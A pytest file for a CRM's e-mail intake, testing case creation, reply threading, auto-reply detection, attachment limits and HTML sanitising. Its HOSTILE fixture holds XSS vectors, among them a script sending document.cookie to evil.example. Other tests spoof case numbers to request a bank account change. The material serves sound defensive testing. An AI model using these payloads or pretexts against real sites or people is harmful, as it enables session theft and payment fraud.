"""E-mail to case through intake's real capture path (raw RFC 822 bytes handed to ``capture``,
to the SMTP listener or read from Dovecot): new mail opens a case and is acknowledged, replies
join their case by headers or subject (never a stranger's "[#123]"), automatic mail opens
nothing, hostile HTML becomes text, oversized parts are said, and nothing is doubled."""

import smtplib
from email.message import EmailMessage
from email.utils import format_datetime, make_msgid

import pytest
from django.core.files.storage import default_storage
from django.utils import timezone

from clientela.activities.models import Activity
from clientela.contacts import services as contact_services
from clientela.contacts.models import Contact
from clientela.intake.models import MailAttachment, MailMessage
from clientela.intake.services import mail
from clientela.intake.services.mail.listener import listener
from clientela.intake.tests.imapserver import free_port
from clientela.support.choices import CaseChannel, CaseStatus, MessageKind
from clientela.support.models import Case, CaseCategory, CaseMessage
from clientela.support.services import cases, mailboxes

from .conftest import SUPPORT, run_jobs

pytestmark = pytest.mark.django_db

NURIA = "nuria@vinspuig.cat"


@pytest.fixture
def nuria(admin_user):
    company = contact_services.create_company(actor=admin_user, name="Vins Puig")
    return contact_services.create_contact(
        actor=admin_user,
        first_name="Núria",
        last_name="Puig",
        emails=[NURIA, "nuria.puig@gmail.com"],
        company=company,
        language="ca",
    )


def email(
    sender=f"Núria Puig <{NURIA}>",
    to=SUPPORT,
    subject="La factura no quadra",
    body="Hola, la factura de maig diu 12 caixes i en vam comprar 2.",
    message_id=None,
    html=None,
    attachments=(),
    **headers,
):
    message = EmailMessage()
    message["From"] = sender
    message["To"] = to
    message["Subject"] = subject
    message["Date"] = format_datetime(timezone.now())
    message["Message-ID"] = message_id or make_msgid(domain="vinspuig.cat")
    for name, value in headers.items():
        message[name.replace("_", "-")] = value
    if html is not None:
        message.set_content(html, subtype="html")
    else:
        message.set_content(body)
    for filename, content, mime in attachments:
        maintype, subtype = mime.split("/")
        message.add_attachment(content, maintype=maintype, subtype=subtype, filename=filename)
    return message


_uids = iter(range(1, 10_000))


def deliver(message, mailbox, *, folder="INBOX", uid=None):
    """Hand ``message`` to intake's capture as a sync of ``folder`` would."""
    raw = message if isinstance(message, bytes) else bytes(message)
    return mail.capture(raw, mailbox=mailbox, folder=folder, uidvalidity=1, uid=uid or next(_uids))


def _case():
    return Case.objects.get()


# --- opening a case ------------------------------------------------------------------------------


def test_a_new_message_to_a_service_mailbox_opens_a_case(
    support_mailbox, admin_user, make_team, nuria, smtp_peer, django_capture_on_commit_callbacks
):
    billing = CaseCategory.objects.create(name="Facturació")
    team = make_team("Suport")
    mailboxes.save_service_mailbox(
        support_mailbox, actor=admin_user, category=billing, team=team, priority="high"
    )
    message = email(message_id="<first@vinspuig.cat>")

    with django_capture_on_commit_callbacks(execute=True):
        captured = deliver(message, support_mailbox)

    assert captured.status == "captured"
    case = _case()
    assert (case.subject, case.channel, case.contact, case.company) == (
        "La factura no quadra",
        CaseChannel.EMAIL,
        nuria,
        nuria.company,
    )
    assert (case.category, case.team, case.priority, case.language) == (billing, team, "high", "ca")
    first = case.messages.get(kind=MessageKind.CUSTOMER)
    assert first.body == "Hola, la factura de maig diu 12 caixes i en vam comprar 2."
    assert (first.from_address, first.to_addresses, first.message_id, first.mail) == (
        NURIA,
        [SUPPORT],
        "<first@vinspuig.cat>",
        captured,
    )
    assert first.contact == nuria
    # Still on the contact's timeline, as any captured e-mail.
    assert Activity.objects.get(kind="email").contact == nuria


def test_the_acknowledgement_goes_out_in_the_thread(
    service, nuria, smtp_peer, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        deliver(email(message_id="<first@vinspuig.cat>"), service.mailbox)

    assert run_jobs() == ["sent"]
    case = _case()
    ack = case.messages.get(kind=MessageKind.AUTOMATIC)
    assert ack.sent_at is not None and ack.send_error == ""
    assert ack.to_addresses == [NURIA]
    (recipients, sent) = smtp_peer.messages[0]
    assert recipients == [NURIA]
    assert sent["Subject"] == f"[#{case.pk}] La factura no quadra"
    assert sent["From"].addresses[0].addr_spec == SUPPORT
    assert sent["From"].addresses[0].display_name == "Atención al cliente"
    assert sent["Message-ID"] == ack.message_id
    assert sent["In-Reply-To"] == "<first@vinspuig.cat>"
    assert sent["References"] == "<first@vinspuig.cat>"
    assert sent["Auto-Submitted"] == "auto-replied"
    text = sent.get_body(("plain",)).get_content()
    html = sent.get_body(("html",)).get_content()
    assert f"#{case.pk}" in text and f"#{case.pk}" in html
    assert '<html lang="ca">' in html
    assert text.replace("\r\n", "\n").strip() == ack.body
    assert len(smtp_peer.messages) == 1
    assert run_jobs() == []


def test_the_acknowledgement_speaks_the_customers_language(
    service, nuria, smtp_peer, settings, tmp_path, django_capture_on_commit_callbacks
):
    from .conftest import write_mo

    catalogue = {
        "Hello %(name)s,": "Hola %(name)s,",
        "To add anything, reply to this e-mail keeping the case number in the subject.": (
            "Per afegir-hi res, responeu aquest correu mantenint el número al títol."
        ),
    }
    write_mo(tmp_path / "locale" / "ca" / "LC_MESSAGES" / "django.mo", catalogue)
    settings.LOCALE_PATHS = [tmp_path / "locale", *settings.LOCALE_PATHS]
    english = contact_services.create_contact(
        actor=service.mailbox.owner, first_name="John", emails=["john@example.org"], language="en"
    )

    with django_capture_on_commit_callbacks(execute=True):
        deliver(email(), service.mailbox)
        deliver(email(sender="John <john@example.org>", subject="Hello"), service.mailbox)
    run_jobs()

    by_address = {r[0]: m for r, m in smtp_peer.messages}
    catalan = by_address[NURIA].get_body(("plain",)).get_content()
    assert catalan.startswith("Hola Núria,")
    assert "Per afegir-hi res, responeu aquest correu" in catalan
    assert (
        by_address["john@example.org"].get_body(("plain",)).get_content().startswith("Hello John,")
    )
    assert english.cases.get().language == "en"


def test_an_unknown_sender_becomes_a_contact_with_a_case(
    service, smtp_peer, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        deliver(email(sender="Pere Vila <pere@vila.example>"), service.mailbox)

    contact = Contact.objects.get()
    assert (contact.first_name, contact.last_name, contact.primary_email) == (
        "Pere",
        "Vila",
        "pere@vila.example",
    )
    assert _case().contact == contact
    assert run_jobs() == ["sent"]


def test_a_mailbox_that_does_not_acknowledge_sends_nothing(
    service, nuria, admin_user, smtp_peer, django_capture_on_commit_callbacks
):
    mailboxes.save_service_mailbox(service.mailbox, actor=admin_user, acknowledge=False)

    with django_capture_on_commit_callbacks(execute=True):
        deliver(email(), service.mailbox)

    assert _case().messages.filter(kind=MessageKind.AUTOMATIC).count() == 0
    assert run_jobs() == [] and smtp_peer.messages == []


def test_no_reply_senders_get_a_case_but_no_acknowledgement(
    service, smtp_peer, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        deliver(email(sender="Botiga <no-reply@botiga.example>"), service.mailbox)

    assert _case().messages.filter(kind=MessageKind.AUTOMATIC).count() == 0
    assert run_jobs() == []


def test_mail_to_an_ordinary_mailbox_opens_no_case(admin_user, nuria, service):
    sales = mail.create_mailbox(
        actor=admin_user,
        name="Vendes",
        email_address="vendes@example.com",
        host="127.0.0.1",
        port=993,
        security="tls",
        username="vendes",
        password="x",
    )

    assert deliver(email(to="vendes@example.com"), sales).status == "captured"

    assert not Case.objects.exists()
    # Mail addressed to the support address too opens one, whichever mailbox reads it first.
    deliver(email(to=f"vendes@example.com, {SUPPORT}"), sales)
    assert Case.objects.count() == 1


def test_a_customer_writing_too_often_is_acknowledged_five_times_an_hour(
    service, nuria, smtp_peer, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        for n in range(7):
            deliver(email(subject=f"Question {n}"), service.mailbox)

    assert Case.objects.count() == 7
    assert CaseMessage.objects.filter(kind=MessageKind.AUTOMATIC).count() == 5


# --- replies joining their case ------------------------------------------------------------------


def _opened(service, **values):
    deliver(email(message_id="<first@vinspuig.cat>", **values), service.mailbox)
    return _case()


def test_a_reply_to_the_acknowledgement_joins_the_case(service, nuria, admin_user):
    case = _opened(service)
    ack = case.messages.get(kind=MessageKind.AUTOMATIC)
    cases.change_status(case, CaseStatus.PENDING_CUSTOMER, actor=admin_user)

    deliver(
        email(
            subject="Re: something else entirely",
            body="Us adjunto la factura.",
            In_Reply_To=ack.message_id,
            References=f"<first@vinspuig.cat> {ack.message_id}",
        ),
        service.mailbox,
    )

    assert Case.objects.count() == 1
    case.refresh_from_db()
    last = case.messages.filter(kind=MessageKind.CUSTOMER).last()
    assert (last.body, last.subject) == ("Us adjunto la factura.", "Re: something else entirely")
    assert case.status == CaseStatus.OPEN  # the customer answered


def test_a_reply_naming_the_customers_first_message_joins_the_case(service, nuria):
    case = _opened(service)

    deliver(
        email(subject="Re: La factura", body="I also...", References="<first@vinspuig.cat>"),
        service.mailbox,
    )

    assert Case.objects.count() == 1
    assert case.messages.filter(kind=MessageKind.CUSTOMER).count() == 2


def test_a_reply_to_our_reply_joins_the_case(service, nuria, admin_user, smtp_peer):
    case = _opened(service)
    reply = cases.reply_to_case(case, "Quantes caixes?", actor=admin_user)

    deliver(email(body="Dues.", In_Reply_To=reply.message_id), service.mailbox)

    assert list(case.messages.values_list("kind", flat=True)) == [
        "customer",
        "automatic",
        "reply",
        "customer",
    ]


@pytest.mark.parametrize(
    "sender",
    [
        f"Núria <{NURIA}>",  # the case's contact
        "Núria <nuria.puig@gmail.com>",  # her other address
        "Jordi Puig <jordi@vinspuig.cat>",  # a colleague at her company
    ],
)
def test_the_case_number_in_the_subject_joins_the_case(service, nuria, admin_user, sender):
    contact_services.create_contact(
        actor=admin_user, first_name="Jordi", emails=["jordi@vinspuig.cat"], company=nuria.company
    )
    case = _opened(service)

    deliver(email(sender=sender, subject=f"RE: [#{case.pk}] La factura"), service.mailbox)

    assert Case.objects.count() == 1
    assert case.messages.filter(kind=MessageKind.CUSTOMER).count() == 2


def test_a_strangers_case_number_opens_a_case_of_their_own(service, nuria):
    case = _opened(service)

    deliver(
        email(
            sender="Mallory <mallory@evil.example>",
            subject=f"[#{case.pk}] Change the bank account",
            body="Please pay to ES00 0000.",
        ),
        service.mailbox,
    )

    assert Case.objects.count() == 2
    assert case.messages.filter(kind=MessageKind.CUSTOMER).count() == 1
    theirs = Case.objects.exclude(pk=case.pk).get()
    assert theirs.subject == "Change the bank account"
    assert theirs.contact.primary_email == "mallory@evil.example"


def test_a_strangers_in_reply_to_opens_a_case_of_their_own(service, nuria):
    case = _opened(service)

    deliver(
        email(sender="mallory@evil.example", In_Reply_To="<first@vinspuig.cat>"),
        service.mailbox,
    )

    assert Case.objects.count() == 2
    assert case.messages.filter(kind=MessageKind.CUSTOMER).count() == 1
    theirs = Case.objects.exclude(pk=case.pk).get()
    assert theirs.contact.primary_email == "mallory@evil.example"


def test_a_reply_to_a_merged_case_joins_the_case_it_went_into(service, nuria, admin_user):
    case = _opened(service)
    target = cases.create_case(actor=admin_user, subject="Main", contact=nuria)
    Case.objects.filter(pk=case.pk).update(merged_into=target)

    deliver(email(subject=f"Re: [#{case.pk}]", body="More."), service.mailbox)

    assert target.messages.filter(kind=MessageKind.CUSTOMER).last().body == "More."


def test_a_reply_to_a_trashed_case_opens_a_new_one(service, nuria):
    case = _opened(service)
    Case.objects.filter(pk=case.pk).update(deleted_at=timezone.now())

    deliver(email(subject=f"Re: [#{case.pk}] La factura"), service.mailbox)

    assert Case.objects.count() == 1  # the live one
    assert Case.objects.get().subject == "Re: La factura"


# --- automatic mail and loops --------------------------------------------------------------------

AUTOMATIC = {
    "auto-replied": {"Auto_Submitted": "auto-replied"},
    "auto-generated": {"Auto_Submitted": "auto-generated; vacation"},
    "x-autoreply": {"X_Autoreply": "yes"},
    "precedence bulk": {"Precedence": "bulk"},
    "precedence junk": {"Precedence": "junk"},
    "precedence list": {"Precedence": "list"},
    "null return path": {"Return_Path": "<>"},
    "mailer-daemon": {"sender": "Mail Delivery System <MAILER-DAEMON@mx.vinspuig.cat>"},
    "failed recipients": {"X_Failed_Recipients": NURIA},
}


@pytest.mark.parametrize("headers", AUTOMATIC.values(), ids=AUTOMATIC.keys())
def test_automatic_mail_is_stored_but_opens_nothing(
    service, nuria, smtp_peer, headers, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        captured = deliver(email(**headers), service.mailbox)

    assert captured.status == "captured"
    assert Activity.objects.filter(kind="email").count() == 1
    assert not Case.objects.exists()
    assert run_jobs() == [] and smtp_peer.messages == []


def test_an_auto_reply_to_a_case_does_not_join_it(service, nuria):
    case = _opened(service)
    ack = case.messages.get(kind=MessageKind.AUTOMATIC)

    deliver(
        email(
            subject="Fora de l'oficina", Auto_Submitted="auto-replied", In_Reply_To=ack.message_id
        ),
        service.mailbox,
    )

    assert case.messages.count() == 2
    case.refresh_from_db()
    assert case.status == CaseStatus.NEW


def test_auto_submitted_no_is_a_person(service, nuria):
    deliver(email(Auto_Submitted="no"), service.mailbox)

    assert Case.objects.count() == 1


def test_a_delivery_status_report_opens_nothing(service, nuria):
    report = (
        "From: Mail Delivery Subsystem <postmaster@mx.example>\r\n"
        f"To: {SUPPORT}\r\n"
        "Subject: Undelivered Mail Returned to Sender\r\n"
        "Message-ID: <bounce1@mx.example>\r\n"
        'Content-Type: multipart/report; report-type=delivery-status; boundary="b"\r\n'
        "MIME-Version: 1.0\r\n\r\n"
        "--b\r\nContent-Type: text/plain\r\n\r\nYour message could not be delivered.\r\n"
        "--b\r\nContent-Type: message/delivery-status\r\n\r\n"
        "Reporting-MTA: dns; mx.example\r\n\r\nFinal-Recipient: rfc822; x@y.example\r\n"
        "Action: failed\r\nStatus: 5.1.1\r\n"
        "--b--\r\n"
    ).encode()

    assert deliver(report, service.mailbox).status == "captured"

    assert not Case.objects.exists()


def test_our_own_acknowledgement_coming_back_opens_nothing(
    service, nuria, smtp_peer, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        _opened(service)
    run_jobs()
    (_to, sent) = smtp_peer.messages[0]

    # The customer's server sends it back to the support address (a forward, a BCC).
    deliver(bytes(sent), service.mailbox)
    # A mail from another of our support addresses (two service mailboxes answering each
    # other) opens nothing either.
    deliver(email(sender=SUPPORT, to="ajuda@example.com"), service.mailbox)

    assert Case.objects.count() == 1
    assert CaseMessage.objects.count() == 2


# --- content -------------------------------------------------------------------------------------

HOSTILE = """<html><head><title>Invoice</title>
<style>body { background: url(javascript:alert(1)) }</style>
<script>document.location = 'https://evil.example/?' + document.cookie</script></head>
<body onload="steal()">
<div>Hello <b onclick="evil()">team</b>,</div>
<div>The invoice is <a href="javascript:alert(1)">wrong</a>. See
<a href="https://vinspuig.cat/f/12">the copy</a>.</div>
<img src="x" onerror="alert(2)">
<iframe src="https://evil.example"></iframe>
<svg><script>alert(3)</script></svg>
<ul><li>12 boxes</li><li>should be 2</li></ul>
<!-- <script>alert(4)</script> -->
<p>Thanks &amp; regards &lt;Núria&gt;</p>
</body></html>"""


def test_html_only_mail_becomes_safe_text(service, nuria):
    deliver(email(html=HOSTILE), service.mailbox)

    body = _case().messages.get(kind=MessageKind.CUSTOMER).body
    assert body == (
        "Hello team,\n"
        "The invoice is wrong. See the copy <https://vinspuig.cat/f/12>.\n\n"
        "- 12 boxes\n"
        "- should be 2\n\n"
        "Thanks & regards <Núria>"
    )
    for bad in ("script", "alert", "javascript", "onload", "onerror", "cookie", "Invoice"):
        assert bad not in body


def test_a_broken_mime_message_still_opens_a_case(service, nuria):
    broken = (
        f"From: {NURIA}\r\nTo: {SUPPORT}\r\nSubject: =?x-unknown?q?Factura?=\r\n"
        "Message-ID: <broken@vinspuig.cat>\r\n"
        'Content-Type: multipart/mixed; boundary="never-closed"\r\n\r\n'
        "--never-closed\r\n"
        "Content-Type: text/plain; charset=x-klingon\r\n"
        "Content-Transfer-Encoding: quoted-printable\r\n\r\n"
        "Bon dia, la factura =E9s incorrecta=\r\n"
        "\r\n--never-closed\r\nContent-Type: application/pdf; name=f.pdf\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\nJVBERi0xLj!!!not base64\r\n"
    ).encode()

    assert deliver(broken, service.mailbox).status == "captured"

    message = _case().messages.get(kind=MessageKind.CUSTOMER)
    assert message.body.startswith("Bon dia, la factura ")
    assert message.body.endswith("s incorrecta")
    assert message.attachments.get().name == "f.pdf"


def test_mail_without_a_sender_is_kept_failed_and_opens_nothing(service):
    result = deliver(b"Subject: nobody\r\n\r\nhello\r\n", service.mailbox)

    assert result.status == "failed"
    assert not Case.objects.exists()


def test_mail_without_text_says_so(service, nuria):
    deliver(email(body="   \n"), service.mailbox)

    assert _case().messages.get(kind="customer").body == "(This message has no text.)"


def test_attachments_are_kept_and_oversized_ones_said(service, nuria, settings):
    settings.MAIL_MAX_ATTACHMENT_BYTES = 1000
    message = email(
        attachments=[
            ("factura.pdf", b"%PDF-1.4 small", "application/pdf"),
            ("video.mp4", b"\0" * 5000, "video/mp4"),
        ]
    )

    deliver(message, service.mailbox)

    first = _case().messages.get(kind=MessageKind.CUSTOMER)
    assert first.body == (
        "[Attachment “video.mp4” (4.9\xa0KB) was too large and was not kept.]\n\n"
        "Hola, la factura de maig diu 12 caixes i en vam comprar 2."
    )
    kept, refused = first.attachments.order_by("id")
    assert (kept.name, kept.content_type, kept.size) == ("factura.pdf", "application/pdf", 14)
    assert kept.file.name == MailAttachment.objects.get(filename="factura.pdf").file.name
    assert default_storage.open(kept.file.name).read() == b"%PDF-1.4 small"
    assert (refused.name, refused.size, refused.file.name) == ("video.mp4", 5000, "")


def test_a_message_over_the_size_limit_opens_a_case_saying_so(service, nuria, settings):
    settings.MAIL_MAX_MESSAGE_BYTES = 2000
    message = email(attachments=[("big.bin", b"x" * 5000, "application/octet-stream")])

    deliver(message, service.mailbox)

    case = _case()
    assert case.subject == "La factura no quadra"
    assert case.messages.get(kind="customer").body == (
        "[This message was too large to keep its text and attachments.]"
    )


# --- idempotency ---------------------------------------------------------------------------------


def test_the_same_message_captured_twice_gives_one_case_message(service, nuria):
    message = email(message_id="<twice@vinspuig.cat>")

    deliver(message, service.mailbox, folder="INBOX", uid=1)
    deliver(message, service.mailbox, folder="Archive", uid=1)  # another folder
    assert deliver(message, service.mailbox, folder="INBOX", uid=1) is None  # a restart

    assert Case.objects.count() == 1
    assert CaseMessage.objects.filter(kind=MessageKind.CUSTOMER).count() == 1
    assert sorted(MailMessage.objects.values_list("status", flat=True)) == [
        "captured",
        "duplicate",
    ]


def test_a_reply_captured_twice_joins_once(service, nuria):
    case = _opened(service)
    reply = email(subject=f"Re: [#{case.pk}]", message_id="<again@vinspuig.cat>")

    deliver(reply, service.mailbox, folder="INBOX")
    deliver(reply, service.mailbox, folder="Archive")

    assert case.messages.filter(kind=MessageKind.CUSTOMER).count() == 2


def test_a_failure_opening_the_case_keeps_the_mail_to_replay(service, nuria, monkeypatch):
    from clientela.support.services import email_to_case

    def broken(*args, **kwargs):
        raise RuntimeError("the disk is full")

    monkeypatch.setattr(email_to_case, "_open", broken)
    failed = deliver(email(), service.mailbox)
    assert (failed.status, Case.objects.count(), Activity.objects.count()) == ("failed", 0, 0)

    monkeypatch.undo()
    replayed = mail.replay(failed, actor=None)

    assert replayed.status == "captured"
    assert Case.objects.get().messages.get(kind="customer").mail == replayed


# --- the real doors: the SMTP listener and an IMAP server ----------------------------------------


@pytest.mark.django_db(transaction=True)
def test_mail_through_the_smtp_listener_opens_a_case_and_is_acknowledged(service, nuria, smtp_peer):
    server = listener(host="127.0.0.1", port=free_port(), max_bytes=200_000)
    server.start()
    try:
        with smtplib.SMTP("127.0.0.1", server.port) as client:
            message = bytes(email(message_id="<smtp@vinspuig.cat>"))
            client.sendmail(NURIA, [SUPPORT], message)
            client.sendmail(NURIA, [SUPPORT], message)  # delivered twice
    finally:
        server.stop()

    case = _case()
    assert case.messages.get(kind="customer").message_id == "<smtp@vinspuig.cat>"
    assert run_jobs() == ["sent"]
    assert smtp_peer.messages[0][1]["In-Reply-To"] == "<smtp@vinspuig.cat>"


def test_a_dovecot_mailbox_read_twice_opens_one_case(dovecot, mailbox, admin_user, nuria):
    from clientela.intake.tests.mailfixtures import SALES

    mailboxes.save_service_mailbox(mailbox, actor=admin_user)
    dovecot.append(bytes(email(to=SALES, message_id="<imap@vinspuig.cat>")))
    dovecot.append(bytes(email(to=SALES, message_id="<imap@vinspuig.cat>")), "Sent")

    mail.sync_mailbox(mailbox)
    mail.sync_mailbox(mailbox)

    case = _case()
    assert case.contact == nuria
    assert case.messages.filter(kind="customer").count() == 1


def test_mail_that_is_no_cases_business_costs_one_query(
    admin_user, nuria, service, django_assert_num_queries
):
    from clientela.intake.services.mail import parsing
    from clientela.support.services import email_to_case

    parsed = parsing.parse(bytes(email(to="vendes@example.com")), max_attachment_bytes=1000)

    with django_assert_num_queries(1):  # the service mailboxes
        assert email_to_case.receive(parsed, mail=None) is None
